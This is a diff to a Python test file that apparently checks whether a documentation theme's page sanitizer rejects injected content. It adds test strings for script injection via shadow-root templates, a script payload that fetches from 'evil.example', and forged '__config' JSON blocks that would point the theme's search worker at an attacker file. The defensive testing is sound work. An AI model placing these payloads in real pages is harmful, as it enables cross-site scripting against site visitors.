@@ -2,10 +2,17 @@
 
 from __future__ import annotations
 
+import json
+
 JS = "window.pwned=1;alert(1);fetch('https://evil.example/x')"
 EVIL = "assets/evil.txt"
 """A file of words beside the pages, which a browser would run if a page named it as a script."""
 OURS = "../assets/javascripts/copy-tex.js"
+SETTINGS = json.dumps({
+    "base": "..", "features": [], "search": f"../{EVIL}", "tags": None, "version": None, "annotate": None,
+    "translations": dict.fromkeys(("clipboard.copied", "clipboard.copy", "search.result.none"), "x"),
+})  # fmt: skip
+"""Settings for the theme's script, by which its search would run a file of words as its worker."""
 
 
 def front(text: str) -> str:
@@ -115,6 +122,15 @@ MARKDOWN = {
     "a script in the shadows": (
         f"<div><template shadowrootmode='open'><script>{JS}</script></template></div>", "`<template>`", 3,
     ),
+    # settings for the theme's script, before its own
+    "settings in a block of data": (
+        f'<script id="__config" type="application/json">{SETTINGS}</script>', "the name `__config`", 3,
+    ),
+    "settings in a paragraph": (f'<p id="__config" hidden>{SETTINGS}</p>', "the name `__config`", 3),
+    "settings behind the end of the article": (
+        f"</article></div></div></main></div><p id='__config'>{SETTINGS}</p>", "the name `__config`", 3,
+    ),
+    "a block of data": (f'<script type="application/json">{SETTINGS}</script>', "a block of data stands", 3),
     # addresses of other hosts
     "a style among translations": (
         "<link rel='alternate stylesheet' href='//evil.example/x.css'>", "another host", 3,
